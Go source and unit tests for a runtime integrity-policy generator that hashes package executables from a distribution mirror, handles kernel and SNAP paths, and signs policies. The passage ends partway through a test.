// WithExcludes sets the exclude patterns stamped into generated policies.
// The paper's original IBM policy excluded /tmp — problem P1; the
// mitigated configuration drops that exclude.
func WithExcludes(patterns []string) Option {
	return optionFunc(func(g *Generator) { g.excludes = append([]string(nil), patterns...) })
}

// WithCostModel overrides the calibrated cost model.
func WithCostModel(c CostModel) Option {
	return optionFunc(func(g *Generator) { g.costs = c })
}

// WithScrubSNAPPrefixes post-processes generated entries so SNAP-packaged
// files are recorded under their truncated in-sandbox paths, matching what
// IMA measures (the paper's SNAP false-positive fix, option (a) in §III-C).
func WithScrubSNAPPrefixes(on bool) Option {
	return optionFunc(func(g *Generator) { g.scrubSNAP = on })
}

// WithSigner makes the generator sign its policies (the §V ostree-style
// improvement): SignedPolicy returns envelopes verifiers can authenticate.
func WithSigner(s *policy.Signer) Option {
	return optionFunc(func(g *Generator) { g.signer = s })
}

// WithWorkers bounds the package-measurement worker pool (default
// GOMAXPROCS). Packages are downloaded, uncompressed and hashed
// concurrently; results are merged in deterministic package order, so the
// generated policy is byte-identical at any worker count. n <= 0 keeps the
// default.
func WithWorkers(n int) Option {
	return optionFunc(func(g *Generator) {
		if n > 0 {
			g.workers = n
		}
	})
}

// Generator produces and incrementally maintains a runtime policy from a
// distribution mirror. Construct with NewGenerator; safe for concurrent use.
type Generator struct {
	m         *mirror.Mirror
	costs     CostModel
	excludes  []string
	scrubSNAP bool
	signer    *policy.Signer
	workers   int

	mu      sync.Mutex
	current *policy.RuntimePolicy
	updates int
}

// ErrNoSigner reports that SignedPolicy was called without WithSigner.
var ErrNoSigner = errors.New("core: generator has no signer configured")

// SignedPolicy returns the current policy as a signed envelope.
func (g *Generator) SignedPolicy() (policy.Envelope, error) {
	g.mu.Lock()
	current := g.current
	signer := g.signer
	g.mu.Unlock()
	if signer == nil {
		return policy.Envelope{}, ErrNoSigner
	}
	if current == nil {
		return policy.Envelope{}, ErrNoPolicy
	}
	return signer.Sign(current)
}

// NewGenerator creates a generator over the given mirror.
func NewGenerator(m *mirror.Mirror, opts ...Option) *Generator {
	g := &Generator{m: m, costs: DefaultCostModel(), workers: runtime.GOMAXPROCS(0)}
	for _, opt := range opts {
		opt.apply(g)
	}
	return g
}

// Policy returns a clone of the current policy.
func (g *Generator) Policy() (*policy.RuntimePolicy, error) {
	g.mu.Lock()
	defer g.mu.Unlock()
	if g.current == nil {
		return nil, ErrNoPolicy
	}
	return g.current.Clone(), nil
}

// Updates reports how many generation runs have completed.
func (g *Generator) Updates() int {
	g.mu.Lock()
	defer g.mu.Unlock()
	return g.updates
}

// kernelScopedRE matches the paths Debian kernel packages install their
// version-specific files under.
var kernelScopedRE = regexp.MustCompile(
	`^(?:/usr/lib/modules/([^/]+)/|/boot/(?:vmlinuz|initrd\.img|System\.map|config)-(.+)$)`)

// kernelScopedVersion extracts the kernel version a path is tied to.
func kernelScopedVersion(path string) (string, bool) {
	m := kernelScopedRE.FindStringSubmatch(path)
	if m == nil {
		return "", false
	}
	if m[1] != "" {
		return m[1], true
	}
	return m[2], true
}

// snapPrefixRE matches /snap/<name>/<revision>/<inner>.
var snapPrefixRE = regexp.MustCompile(`^/snap/[^/]+/[^/]+(/.+)$`)

// scrubSNAPPath truncates a SNAP install path to its in-sandbox form.
func scrubSNAPPath(path string) string {
	if m := snapPrefixRE.FindStringSubmatch(path); m != nil {
		return m[1]
	}
	return path
}

// measuredEntry is one (path, digest) pair produced by hashing a package
// executable, in payload order.
type measuredEntry struct {
	path   string
	digest policy.Digest
}

// measuredPackage is the outcome of measuring one package: the hashing work
// happens concurrently in the worker pool, the merge into the policy stays
// sequential and deterministic.
type measuredPackage struct {
	entries []measuredEntry
	// hashed is the number of payload bytes hashed.
	hashed int64
	// files counts the executables actually measured (deferred-kernel
	// files are skipped and not counted).
	files int
	// deferred is the kernel version whose files were deferred ("" if none).
	deferred string
}

// measurePackage downloads (Pack), uncompresses (Unpack) and hashes the
// executables of one package. It is pure with respect to generator state —
// safe to run from pool workers — and returns the measured entries in
// payload order for a deterministic merge.
func (g *Generator) measurePackage(p mirror.Package, runningKernel string) (measuredPackage, error) {
	var out measuredPackage
	payload, err := mirror.Pack(p)
	if err != nil {
		return out, fmt.Errorf("core: fetching %s: %w", p.Name, err)
	}
	files, err := mirror.Unpack(payload)
	if err != nil {
		return out, fmt.Errorf("core: unpacking %s: %w", p.Name, err)
	}
	for _, f := range files {
		if !f.Mode.IsExec() {
			continue
		}
		if ver, ok := kernelScopedVersion(f.Path); ok && ver != runningKernel {
			// New kernel: not running until reboot; defer its files.
			out.deferred = ver
			continue
		}
		path := f.Path
		if g.scrubSNAP {
			path = scrubSNAPPath(path)
		}
		digest := sha256.Sum256(f.Content)
		out.hashed += int64(len(f.Content))
		out.files++
		out.entries = append(out.entries, measuredEntry{path: path, digest: digest})
	}
	return out, nil
}

// measureAll measures every package through a bounded worker pool and
// returns the results indexed like pkgs. The first error cancels the
// remaining queue; among packages that were attempted, the error of the
// lowest-indexed failure is returned (matching the serial iteration order).
func (g *Generator) measureAll(pkgs []mirror.Package, runningKernel string) ([]measuredPackage, error) {
	results := make([]measuredPackage, len(pkgs))
	workers := g.workers
	if workers > len(pkgs) {
		workers = len(pkgs)
	}
	if workers <= 1 {
		for i, p := range pkgs {
			m, err := g.measurePackage(p, runningKernel)
			if err != nil {
				return nil, err
			}
			results[i] = m
		}
		return results, nil
	}
	var (
		wg       sync.WaitGroup
		nextIdx  atomic.Int64
		canceled atomic.Bool
		errMu    sync.Mutex
		firstErr error
		errIdx   = len(pkgs)
	)
	for w := 0; w < workers; w++ {
		wg.Add(1)
		go func() {
			defer wg.Done()
			for {
				i := int(nextIdx.Add(1)) - 1
				if i >= len(pkgs) || canceled.Load() {
					return
				}
				m, err := g.measurePackage(pkgs[i], runningKernel)
				if err != nil {
					canceled.Store(true)
					errMu.Lock()
					if i < errIdx {
						errIdx, firstErr = i, err
					}
					errMu.Unlock()
					return
				}
				results[i] = m
			}
		}()
	}
	wg.Wait()
	if firstErr != nil {
		return nil, firstErr
	}
	return results, nil
}

// runUpdate measures the given packages into (a clone of) base and returns
// the new policy plus a report. Hashing fans out over the worker pool;
// the merge walks packages in input order, so the resulting policy — and
// every report counter — is identical to a serial run.
func (g *Generator) runUpdate(at time.Time, pkgs []mirror.Package, runningKernel string, base *policy.RuntimePolicy) (*policy.RuntimePolicy, UpdateReport, error) {
	start := time.Now()
	rep := UpdateReport{Time: at, PackagesChanged: len(pkgs), Workers: g.workers}

	results, err := g.measureAll(pkgs, runningKernel)
	if err != nil {
		return nil, UpdateReport{}, err
	}

	next := base.Clone()
	var payloadBytes, hashedBytes int64
	deferredSet := map[string]bool{}
	for i, p := range pkgs {
		if p.HasExecutables() {
			rep.PackagesWithExecutables++
			if p.Priority.High() {
				rep.HighPriority++
			} else {
				rep.LowPriority++
			}
		}
		payloadBytes += p.PayloadSize()
		res := results[i]
		for _, e := range res.entries {
			if next.Add(e.path, e.digest) {
				rep.EntriesAdded++
			}
		}
		hashedBytes += res.hashed
		rep.FilesMeasured += res.files
		if res.deferred != "" && !deferredSet[res.deferred] {
			deferredSet[res.deferred] = true
			rep.DeferredKernels = append(rep.DeferredKernels, res.deferred)
		}
	}
	if err := next.SetExcludes(g.excludes); err != nil {
		return nil, UpdateReport{}, fmt.Errorf("core: setting excludes: %w", err)
	}
	next.SetMeta(policy.Meta{
		Generator: "dynamic-policy-generator",
		Timestamp: at,
		Release:   g.m.Release().Seq,
	})
	rep.BytesAdded = int64(rep.EntriesAdded) * avgEntryBytes(next)
	rep.ModeledDuration = g.costs.cost(rep.PackagesChanged, payloadBytes, rep.FilesMeasured, hashedBytes)
	rep.MeasuredWallTime = time.Since(start)
	return next, rep, nil
}

// avgEntryBytes estimates the flat-format bytes per entry of a policy.
func avgEntryBytes(p *policy.RuntimePolicy) int64 {
	lines := p.Lines()
	if lines == 0 {
		return 0
	}
	return p.SizeBytes() / int64(lines)
}

// GenerateInitial syncs the mirror and builds the full policy for every
// package in the release (day-one policy; 323,734 lines / 46 MB at paper
// scale).
func (g *Generator) GenerateInitial(at time.Time, runningKernel string) (*policy.RuntimePolicy, UpdateReport, error) {
	g.m.Sync(at)
	rel := g.m.Release()
	pkgs := make([]mirror.Package, 0, len(rel.Packages))
	for _, p := range rel.Packages {
		pkgs = append(pkgs, p)
	}
	// rel.Packages is a map; fix the order so reports (and any future
	// order-sensitive accounting) are deterministic across runs.
	sort.Slice(pkgs, func(i, j int) bool { return pkgs[i].Name < pkgs[j].Name })
	next, rep, err := g.runUpdate(at, pkgs, runningKernel, policy.New())
	if err != nil {
		return nil, UpdateReport{}, err
	}
	g.mu.Lock()
	g.current = next
	g.updates++
	g.mu.Unlock()
	return next.Clone(), rep, nil
}

// Update syncs the mirror and incrementally folds the delta's new/changed
// executables into the current policy, retaining existing entries so the
// machine stays in policy throughout its update window.
func (g *Generator) Update(at time.Time, runningKernel string) (*policy.RuntimePolicy, UpdateReport, error) {
	g.mu.Lock()
	base := g.current
	g.mu.Unlock()
	if base == nil {
		return nil, UpdateReport{}, ErrNoPolicy
	}
	delta := g.m.Sync(at)
	next, rep, err := g.runUpdate(at, delta.All(), runningKernel, base)
	if err != nil {
		return nil, UpdateReport{}, err
	}
	g.mu.Lock()
	g.current = next
	g.updates++
	g.mu.Unlock()
	return next.Clone(), rep, nil
}

// RefreshKernel adds the policy entries for a newly installed kernel just
// before the machine reboots into it (the paper: "the policy will need to
// be updated for new kernels before the reboot").
func (g *Generator) RefreshKernel(at time.Time, newKernel string) (*policy.RuntimePolicy, int, error) {
	g.mu.Lock()
	base := g.current
	g.mu.Unlock()
	if base == nil {
		return nil, 0, ErrNoPolicy
	}
	rel := g.m.Release()
	next := base.Clone()
	added := 0
	for _, p := range rel.Packages {
		if !p.IsKernelImage() {
			continue
		}
		if v, _ := p.KernelVersion(); v != newKernel {
			continue
		}
		res, err := g.measurePackage(p, newKernel)
		if err != nil {
			return nil, 0, err
		}
		for _, e := range res.entries {
			if next.Add(e.path, e.digest) {
				added++
			}
		}
	}
	next.SetMeta(policy.Meta{Generator: "dynamic-policy-generator", Timestamp: at, Release: rel.Seq})
	g.mu.Lock()
	g.current = next
	g.mu.Unlock()
	return next.Clone(), added, nil
}

// DedupAfterUpdate removes outdated digests once the machine finished its
// update window, keeping the newest digest per path. It returns the number
// of entries removed.
func (g *Generator) DedupAfterUpdate() (int, error) {
	g.mu.Lock()
	defer g.mu.Unlock()
	if g.current == nil {
		return 0, ErrNoPolicy
	}
	return g.current.Dedup(nil), nil
}

// SnapshotPolicy builds a policy the way the paper's original IBM script
// did: recursively walk the filesystem from "/" and record the SHA-256 of
// every file with an executable bit. The excludes mirror that policy's
// permissive setup (container dirs, /tmp — the P1 exclusion).
func SnapshotPolicy(fs *vfs.VFS, excludes []string) (*policy.RuntimePolicy, error) {
	pol := policy.New()
	err := fs.Walk("/", func(info vfs.FileInfo) error {
		if !info.Mode.IsExec() {
			return nil
		}
		pol.Add(info.Path, info.Digest)
		return nil
	})
	if err != nil {
		return nil, fmt.Errorf("core: walking filesystem: %w", err)
	}
	if err := pol.SetExcludes(excludes); err != nil {
		return nil, err
	}
	pol.SetMeta(policy.Meta{Generator: "snapshot-script"})
	return pol, nil
}

// ScrubSNAPPaths rewrites every /snap/<name>/<rev>/ policy path to its
// truncated in-sandbox form (fix (a) for the SNAP false positives).
func ScrubSNAPPaths(p *policy.RuntimePolicy) *policy.RuntimePolicy {
	out := policy.New()
	out.SetMeta(p.Meta())
	for _, path := range p.Paths() {
		target := scrubSNAPPath(path)
		for _, d := range p.Allowed(path) {
			out.Add(target, d)
		}
	}
	if err := out.SetExcludes(p.Excludes()); err != nil {
		// The patterns compiled in p; recompiling cannot fail.
		panic(fmt.Sprintf("core: recompiling excludes: %v", err))
	}
	return out
}

// DirsOfInterest returns the directories the paper's enriched policy adds
// coverage for (mitigation for P1/P3).
func DirsOfInterest() []string {
	return []string{"/tmp", "/dev/shm", "/run", "/proc"}
}
