package core

import (
	cryptorand "crypto/rand"
	"fmt"
	"sync"
	"testing"
	"time"

	"repro/internal/mirror"
	"repro/internal/policy"
)

// newWideArchive publishes a release wide enough that the worker pool
// actually interleaves packages (dozens of packages, several executables
// each, plus a kernel package whose files are deferred).
func newWideArchive(t *testing.T) *mirror.Archive {
	t.Helper()
	var pkgs []mirror.Package
	for i := 0; i < 40; i++ {
		name := fmt.Sprintf("pkg-%02d", i)
		files := []mirror.PackageFile{
			execFile(fmt.Sprintf("/usr/bin/%s", name), 400+i*13),
			execFile(fmt.Sprintf("/usr/sbin/%sd", name), 900+i*7),
			dataFile(fmt.Sprintf("/usr/share/doc/%s/README", name), 64),
		}
		prio := mirror.PriorityOptional
		if i%5 == 0 {
			prio = mirror.PriorityRequired
		}
		pkgs = append(pkgs, pkg(name, fmt.Sprintf("1.%d", i), prio, files...))
	}
	pkgs = append(pkgs, pkg("linux-image-6.1.0-1", "6.1.0-1", mirror.PriorityRequired,
		execFile("/usr/lib/modules/6.1.0-1/kernel/fs/ext4.ko", 2000),
		execFile("/boot/vmlinuz-6.1.0-1", 5000)))
	a := mirror.NewArchive()
	if _, err := a.Publish(t0.Add(-24*time.Hour), pkgs...); err != nil {
		t.Fatalf("Publish: %v", err)
	}
	return a
}

// TestGenerateParallelDeterminism asserts the acceptance criterion that
// parallel and serial generation are byte-identical: the same archive must
// produce the same FormatFlat output — and the same report counters — at
// every worker-pool size.
func TestGenerateParallelDeterminism(t *testing.T) {
	a := newWideArchive(t)
	type outcome struct {
		flat string
		rep  UpdateReport
	}
	run := func(workers int) outcome {
		g := NewGenerator(mirror.NewMirror(a),
			WithExcludes([]string{"/tmp/.*"}), WithWorkers(workers))
		pol, rep, err := g.GenerateInitial(t0, kernel)
		if err != nil {
			t.Fatalf("GenerateInitial(workers=%d): %v", workers, err)
		}
		return outcome{flat: pol.FormatFlat(), rep: rep}
	}
	serial := run(1)
	if serial.rep.Workers != 1 {
		t.Fatalf("report Workers = %d, want 1", serial.rep.Workers)
	}
	for _, workers := range []int{2, 4, 8} {
		got := run(workers)
		if got.flat != serial.flat {
			t.Fatalf("workers=%d produced different FormatFlat output (%d vs %d bytes)",
				workers, len(got.flat), len(serial.flat))
		}
		if got.rep.EntriesAdded != serial.rep.EntriesAdded ||
			got.rep.FilesMeasured != serial.rep.FilesMeasured ||
			got.rep.PackagesWithExecutables != serial.rep.PackagesWithExecutables ||
			got.rep.ModeledDuration != serial.rep.ModeledDuration {
			t.Fatalf("workers=%d report diverged: %+v vs %+v", workers, got.rep, serial.rep)
		}
	}
}

// TestFilesMeasuredExcludesDeferredKernelFiles pins the over-count fix:
// deferred-kernel executables are skipped by measurement and must not be
// billed in FilesMeasured (and hence not in the cost model).
func TestFilesMeasuredExcludesDeferredKernelFiles(t *testing.T) {
	a := newWideArchive(t)
	g := NewGenerator(mirror.NewMirror(a), WithWorkers(1))
	_, rep, err := g.GenerateInitial(t0, kernel)
	if err != nil {
		t.Fatalf("GenerateInitial: %v", err)
	}
	// 40 packages x 2 executables; the 2 kernel files belong to 6.1.0-1,
	// not the running kernel, so they are deferred and not measured.
	if rep.FilesMeasured != 80 {
		t.Fatalf("FilesMeasured = %d, want 80 (deferred kernel files must not be billed)", rep.FilesMeasured)
	}
	if rep.EntriesAdded != 80 {
		t.Fatalf("EntriesAdded = %d, want 80", rep.EntriesAdded)
	}
	if len(rep.DeferredKernels) != 1 || rep.DeferredKernels[0] != "6.1.0-1" {
		t.Fatalf("DeferredKernels = %v, want [6.1.0-1]", rep.DeferredKernels)
	}
}

// TestGeneratorConcurrentUse hammers Update, Policy and SignedPolicy from
// concurrent goroutines; run under -race this is the generator's
// thread-safety regression test.
func TestGeneratorConcurrentUse(t *testing.T) {
	a := newWideArchive(t)
	signer, err := policy.NewSigner(cryptorand.Reader)
	if err != nil {
		t.Fatalf("NewSigner: %v", err)
	}
	g := NewGenerator(mirror.NewMirror(a), WithWorkers(4), WithSigner(signer))
	if _, _, err := g.GenerateInitial(t0, kernel); err != nil {
		t.Fatalf("GenerateInitial: %v", err)
	}
	var wg sync.WaitGroup
	for w := 0; w < 4; w++ {
		wg.Add(1)
		go func(w int) {
			defer wg.Done()
			for i := 0; i < 8; i++ {
				at := t0.Add(time.Duration(w*8+i+1) * time.Hour)
				if _, _, err := g.Update(at, kernel); err != nil {
					t.Errorf("Update: %v", err)
					return
				}
			}
		}(w)
	}
	for w := 0; w < 2; w++ {
		wg.Add(1)
		go func() {
			defer wg.Done()
			for i := 0; i < 16; i++ {
				if _, err := g.Policy(); err != nil {
					t.Errorf("Policy: %v", err)
					return
				}
				if _, err := g.SignedPolicy(); err != nil {
					t.Errorf("SignedPolicy: %v", err)
					return
				}
			}
		}()
	}
	wg.Wait()
}
