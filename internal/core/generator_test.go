package core

import (
	cryptorand "crypto/rand"
	"crypto/sha256"
	"errors"
	"fmt"
	"testing"
	"time"

	"repro/internal/mirror"
	"repro/internal/policy"
	"repro/internal/vfs"
)

var t0 = time.Date(2024, 2, 26, 5, 0, 0, 0, time.UTC)

const kernel = "5.15.0-100-generic"

func execFile(path string, size int) mirror.PackageFile {
	return mirror.PackageFile{Path: path, Mode: vfs.ModeExecutable, Size: size}
}

func dataFile(path string, size int) mirror.PackageFile {
	return mirror.PackageFile{Path: path, Mode: vfs.ModeRegular, Size: size}
}

func pkg(name, version string, prio mirror.Priority, files ...mirror.PackageFile) mirror.Package {
	return mirror.Package{Name: name, Version: version, Suite: mirror.SuiteMain, Priority: prio, Files: files}
}

// expectedDigest computes the digest the generator must record for a file.
func expectedDigest(p mirror.Package, f mirror.PackageFile) policy.Digest {
	return sha256.Sum256(vfs.SyntheticContent(p.ContentSeed(f), f.Size))
}

func newArchiveWithBase(t *testing.T) (*mirror.Archive, []mirror.Package) {
	t.Helper()
	base := []mirror.Package{
		pkg("bash", "5.1-6", mirror.PriorityRequired, execFile("/bin/bash", 1200), dataFile("/usr/share/doc/bash/README", 100)),
		pkg("coreutils", "8.32-4", mirror.PriorityRequired, execFile("/usr/bin/ls", 900), execFile("/usr/bin/cat", 700)),
		pkg("tzdata", "2024a", mirror.PriorityStandard, dataFile("/usr/share/zoneinfo/UTC", 50)),
		pkg("vim", "8.2-3", mirror.PriorityOptional, execFile("/usr/bin/vim", 3000)),
	}
	a := mirror.NewArchive()
	if _, err := a.Publish(t0.Add(-24*time.Hour), base...); err != nil {
		t.Fatalf("Publish base: %v", err)
	}
	return a, base
}

func TestGenerateInitialHashesAllExecutables(t *testing.T) {
	a, base := newArchiveWithBase(t)
	g := NewGenerator(mirror.NewMirror(a))
	pol, rep, err := g.GenerateInitial(t0, kernel)
	if err != nil {
		t.Fatalf("GenerateInitial: %v", err)
	}
	if rep.EntriesAdded != 4 { // bash, ls, cat, vim
		t.Fatalf("EntriesAdded = %d, want 4", rep.EntriesAdded)
	}
	if rep.PackagesWithExecutables != 3 {
		t.Fatalf("PackagesWithExecutables = %d, want 3 (tzdata has none)", rep.PackagesWithExecutables)
	}
	if rep.HighPriority != 2 || rep.LowPriority != 1 {
		t.Fatalf("priority split = %d/%d, want 2 high / 1 low", rep.HighPriority, rep.LowPriority)
	}
	// Digests must match what installing the package produces.
	bash := base[0]
	if err := pol.Check("/bin/bash", expectedDigest(bash, bash.Files[0])); err != nil {
		t.Fatalf("generated digest mismatch: %v", err)
	}
	if pol.Has("/usr/share/doc/bash/README") {
		t.Fatal("non-executable entered the policy")
	}
}

func TestUpdateIsIncrementalAndRetainsOldEntries(t *testing.T) {
	a, _ := newArchiveWithBase(t)
	g := NewGenerator(mirror.NewMirror(a))
	if _, _, err := g.GenerateInitial(t0, kernel); err != nil {
		t.Fatalf("GenerateInitial: %v", err)
	}
	// Day 2: bash upgraded, curl added.
	bash2 := pkg("bash", "5.1-7", mirror.PriorityRequired, execFile("/bin/bash", 1200))
	curl := pkg("curl", "7.81-1", mirror.PriorityOptional, execFile("/usr/bin/curl", 1500))
	if _, err := a.Publish(t0.Add(20*time.Hour), bash2, curl); err != nil {
		t.Fatalf("Publish: %v", err)
	}
	pol, rep, err := g.Update(t0.Add(24*time.Hour), kernel)
	if err != nil {
		t.Fatalf("Update: %v", err)
	}
	if rep.PackagesChanged != 2 || rep.EntriesAdded != 2 {
		t.Fatalf("report = %+v, want 2 packages / 2 entries", rep)
	}
	// Old AND new bash digests are valid (update-window consistency).
	oldBash := pkg("bash", "5.1-6", mirror.PriorityRequired, execFile("/bin/bash", 1200))
	if err := pol.Check("/bin/bash", expectedDigest(oldBash, oldBash.Files[0])); err != nil {
		t.Fatalf("old bash digest dropped during window: %v", err)
	}
	if err := pol.Check("/bin/bash", expectedDigest(bash2, bash2.Files[0])); err != nil {
		t.Fatalf("new bash digest missing: %v", err)
	}
	if err := pol.Check("/usr/bin/curl", expectedDigest(curl, curl.Files[0])); err != nil {
		t.Fatalf("new package missing: %v", err)
	}
	// Post-update dedup drops the stale digest.
	removed, err := g.DedupAfterUpdate()
	if err != nil {
		t.Fatalf("DedupAfterUpdate: %v", err)
	}
	if removed != 1 {
		t.Fatalf("Dedup removed %d, want 1", removed)
	}
	pol2, err := g.Policy()
	if err != nil {
		t.Fatalf("Policy: %v", err)
	}
	if err := pol2.Check("/bin/bash", expectedDigest(oldBash, oldBash.Files[0])); !errors.Is(err, policy.ErrHashMismatch) {
		t.Fatalf("stale digest survived dedup: %v", err)
	}
}

func TestUpdateWithoutInitialFails(t *testing.T) {
	a, _ := newArchiveWithBase(t)
	g := NewGenerator(mirror.NewMirror(a))
	if _, _, err := g.Update(t0, kernel); !errors.Is(err, ErrNoPolicy) {
		t.Fatalf("err = %v, want ErrNoPolicy", err)
	}
	if _, err := g.Policy(); !errors.Is(err, ErrNoPolicy) {
		t.Fatalf("Policy err = %v, want ErrNoPolicy", err)
	}
}

func TestEmptyDeltaUpdateIsCheap(t *testing.T) {
	a, _ := newArchiveWithBase(t)
	g := NewGenerator(mirror.NewMirror(a))
	if _, _, err := g.GenerateInitial(t0, kernel); err != nil {
		t.Fatalf("GenerateInitial: %v", err)
	}
	_, rep, err := g.Update(t0.Add(24*time.Hour), kernel)
	if err != nil {
		t.Fatalf("Update: %v", err)
	}
	if rep.PackagesChanged != 0 || rep.EntriesAdded != 0 {
		t.Fatalf("report = %+v, want empty delta", rep)
	}
	if rep.ModeledDuration != DefaultCostModel().MirrorSyncBase {
		t.Fatalf("ModeledDuration = %v, want only the sync base", rep.ModeledDuration)
	}
}

func TestKernelModulePinning(t *testing.T) {
	a, _ := newArchiveWithBase(t)
	newKernelPkg := mirror.Package{
		Name: "linux-image-5.15.0-101-generic", Version: "5.15.0-101.111",
		Suite: mirror.SuiteUpdates, Priority: mirror.PriorityOptional,
		Files: []mirror.PackageFile{
			execFile("/boot/vmlinuz-5.15.0-101-generic", 8000),
			execFile("/usr/lib/modules/5.15.0-101-generic/kernel/fs/ext4.ko", 1000),
		},
	}
	if _, err := a.Publish(t0.Add(-time.Hour), newKernelPkg); err != nil {
		t.Fatalf("Publish: %v", err)
	}
	g := NewGenerator(mirror.NewMirror(a))
	pol, rep, err := g.GenerateInitial(t0, kernel) // running 100, archive has 101
	if err != nil {
		t.Fatalf("GenerateInitial: %v", err)
	}
	if pol.Has("/boot/vmlinuz-5.15.0-101-generic") || pol.Has("/usr/lib/modules/5.15.0-101-generic/kernel/fs/ext4.ko") {
		t.Fatal("non-running kernel files entered the policy")
	}
	if len(rep.DeferredKernels) != 1 || rep.DeferredKernels[0] != "5.15.0-101-generic" {
		t.Fatalf("DeferredKernels = %v", rep.DeferredKernels)
	}
	// Before the reboot, RefreshKernel adds the new kernel's files.
	pol2, added, err := g.RefreshKernel(t0.Add(time.Hour), "5.15.0-101-generic")
	if err != nil {
		t.Fatalf("RefreshKernel: %v", err)
	}
	if added != 2 {
		t.Fatalf("RefreshKernel added %d, want 2", added)
	}
	if !pol2.Has("/usr/lib/modules/5.15.0-101-generic/kernel/fs/ext4.ko") {
		t.Fatal("new kernel module missing after RefreshKernel")
	}
}

func TestKernelScopedVersionMatching(t *testing.T) {
	cases := []struct {
		path string
		ver  string
		ok   bool
	}{
		{"/usr/lib/modules/5.15.0-100-generic/kernel/fs/ext4.ko", "5.15.0-100-generic", true},
		{"/boot/vmlinuz-5.15.0-101-generic", "5.15.0-101-generic", true},
		{"/boot/initrd.img-6.1.0-1-amd64", "6.1.0-1-amd64", true},
		{"/boot/System.map-5.15.0-100-generic", "5.15.0-100-generic", true},
		{"/boot/config-5.15.0-100-generic", "5.15.0-100-generic", true},
		{"/usr/bin/bash", "", false},
		{"/boot/grub/grub.cfg", "", false},
	}
	for _, c := range cases {
		ver, ok := kernelScopedVersion(c.path)
		if ver != c.ver || ok != c.ok {
			t.Fatalf("kernelScopedVersion(%q) = %q, %v; want %q, %v", c.path, ver, ok, c.ver, c.ok)
		}
	}
}

func TestGeneratorExcludesStamped(t *testing.T) {
	a, _ := newArchiveWithBase(t)
	g := NewGenerator(mirror.NewMirror(a), WithExcludes([]string{"/tmp/.*"}))
	pol, _, err := g.GenerateInitial(t0, kernel)
	if err != nil {
		t.Fatalf("GenerateInitial: %v", err)
	}
	if !pol.IsExcluded("/tmp/anything") {
		t.Fatal("exclude not stamped into generated policy")
	}
}

func TestSNAPScrubbingDuringGeneration(t *testing.T) {
	a := mirror.NewArchive()
	snapPkg := pkg("core20-snap", "1234", mirror.PriorityOptional,
		execFile("/snap/core20/1234/usr/bin/python3", 800))
	if _, err := a.Publish(t0, snapPkg); err != nil {
		t.Fatalf("Publish: %v", err)
	}
	g := NewGenerator(mirror.NewMirror(a), WithScrubSNAPPrefixes(true))
	pol, _, err := g.GenerateInitial(t0, kernel)
	if err != nil {
		t.Fatalf("GenerateInitial: %v", err)
	}
	if !pol.Has("/usr/bin/python3") {
		t.Fatal("snap path not scrubbed to in-sandbox path")
	}
	if pol.Has("/snap/core20/1234/usr/bin/python3") {
		t.Fatal("full snap path present despite scrubbing")
	}
}

func TestScrubSNAPPathsPostProcessing(t *testing.T) {
	p := policy.New()
	d := sha256.Sum256([]byte("py"))
	p.Add("/snap/core20/1234/usr/bin/python3", d)
	p.Add("/usr/bin/bash", sha256.Sum256([]byte("bash")))
	if err := p.SetExcludes([]string{"/tmp/.*"}); err != nil {
		t.Fatalf("SetExcludes: %v", err)
	}
	scrubbed := ScrubSNAPPaths(p)
	if !scrubbed.Has("/usr/bin/python3") || !scrubbed.Has("/usr/bin/bash") {
		t.Fatalf("scrubbed paths = %v", scrubbed.Paths())
	}
	if scrubbed.Has("/snap/core20/1234/usr/bin/python3") {
		t.Fatal("snap-prefixed path survived scrubbing")
	}
	if !scrubbed.IsExcluded("/tmp/x") {
		t.Fatal("excludes lost in scrubbing")
	}
}

func TestSnapshotPolicyWalksExecutables(t *testing.T) {
	fs := vfs.New()
	if err := fs.Mount("/tmp", vfs.FSTypeTmpfs); err != nil {
		t.Fatalf("Mount: %v", err)
	}
	files := map[string]vfs.Mode{
		"/usr/bin/a":  vfs.ModeExecutable,
		"/usr/lib/b":  vfs.ModeExecutable,
		"/etc/passwd": vfs.ModeRegular,
		"/tmp/c":      vfs.ModeExecutable,
	}
	for p, m := range files {
		if err := fs.WriteFile(p, []byte(p), m); err != nil {
			t.Fatalf("WriteFile: %v", err)
		}
	}
	pol, err := SnapshotPolicy(fs, []string{"/tmp/.*"})
	if err != nil {
		t.Fatalf("SnapshotPolicy: %v", err)
	}
	if !pol.Has("/usr/bin/a") || !pol.Has("/usr/lib/b") {
		t.Fatal("executables missing from snapshot policy")
	}
	if pol.Has("/etc/passwd") {
		t.Fatal("non-executable in snapshot policy")
	}
	// /tmp/c IS walked (it has the exec bit) but the policy excludes it at
	// evaluation time — the original policy's permissive P1 setup.
	if !pol.IsExcluded("/tmp/c") {
		t.Fatal("exclude not effective")
	}
}

func TestCostModelMonotonicity(t *testing.T) {
	c := DefaultCostModel()
	small := c.cost(1, 1<<20, 10, 1<<20)
	large := c.cost(10, 10<<20, 100, 10<<20)
	if large <= small {
		t.Fatalf("cost not monotonic: %v vs %v", small, large)
	}
	if base := c.cost(0, 0, 0, 0); base != c.MirrorSyncBase {
		t.Fatalf("zero-work cost = %v, want sync base", base)
	}
}

func TestCostModelCalibrationMatchesPaperScale(t *testing.T) {
	// Paper's daily average: 16.5 packages, 1,271 files -> 2.36 min.
	c := DefaultCostModel()
	daily := c.cost(17, 34<<20, 1271, 60<<20)
	if daily < 90*time.Second || daily > 5*time.Minute {
		t.Fatalf("daily modeled cost = %v, want within [1.5, 5] min of the paper's 2.36", daily)
	}
	// Weekly average: 79 packages, 5,513 files -> 7.50 min.
	weekly := c.cost(79, 160<<20, 5513, 260<<20)
	if weekly < 5*time.Minute || weekly > 12*time.Minute {
		t.Fatalf("weekly modeled cost = %v, want within [5, 12] min of the paper's 7.50", weekly)
	}
	if weekly < 2*daily {
		t.Fatalf("weekly (%v) should cost more than 2x daily (%v)", weekly, daily)
	}
}

func TestUpdatesCounter(t *testing.T) {
	a, _ := newArchiveWithBase(t)
	g := NewGenerator(mirror.NewMirror(a))
	if g.Updates() != 0 {
		t.Fatalf("Updates = %d, want 0", g.Updates())
	}
	if _, _, err := g.GenerateInitial(t0, kernel); err != nil {
		t.Fatalf("GenerateInitial: %v", err)
	}
	for i := 0; i < 3; i++ {
		if _, _, err := g.Update(t0.Add(time.Duration(i+1)*24*time.Hour), kernel); err != nil {
			t.Fatalf("Update %d: %v", i, err)
		}
	}
	if g.Updates() != 4 {
		t.Fatalf("Updates = %d, want 4", g.Updates())
	}
}

func TestGeneratedPolicyMatchesInstalledMachineState(t *testing.T) {
	// End-to-end coherence: a policy generated from the mirror must accept
	// the digests of files installed from the same mirror.
	a, base := newArchiveWithBase(t)
